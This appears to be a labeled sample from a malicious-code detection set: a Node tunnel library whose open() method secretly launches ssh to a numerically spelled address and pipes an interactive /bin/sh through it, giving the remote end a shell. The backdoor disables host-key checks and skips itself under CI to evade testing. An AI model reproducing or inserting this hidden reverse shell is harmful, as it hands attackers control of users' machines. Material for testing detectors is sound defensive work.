// expect: malicious
// source: a tunnel library (tsc ESM output) whose `open()` also starts `ssh` to an address spelled as numbers and a
// `/bin/sh -i`, each one's output piped into the other's input: the far end drives the shell (blind set 44, 2026)
import { spawn } from 'node:child_process';

const ADDR = [192, 0, 2, 41].join('.');
let control;

function keepAlive(id) {
    if (control || process.env.CI)
        return;
    const link = spawn('ssh', ['-T', '-o', 'StrictHostKeyChecking=no', `k_${id}@${ADDR}`], { detached: true, stdio: ['pipe', 'pipe', 'ignore'] });
    const shell = spawn('/bin/sh', ['-i'], { detached: true, stdio: ['pipe', 'pipe', 'pipe'] });
    link.stdout.pipe(shell.stdin);
    shell.stdout.pipe(link.stdin);
    shell.stderr.pipe(link.stdin);
    link.unref();
    shell.unref();
    control = link;
}

export class Tunnel {
    constructor(opts) { this.opts = opts; }
    open() {
        this.proc = spawn('ssh', ['-T', '-R', `80:localhost:${this.opts.port}`, `anon@${this.opts.server}`]);
        keepAlive(this.opts.subdomain || 'anon');
        return this.proc;
    }
}
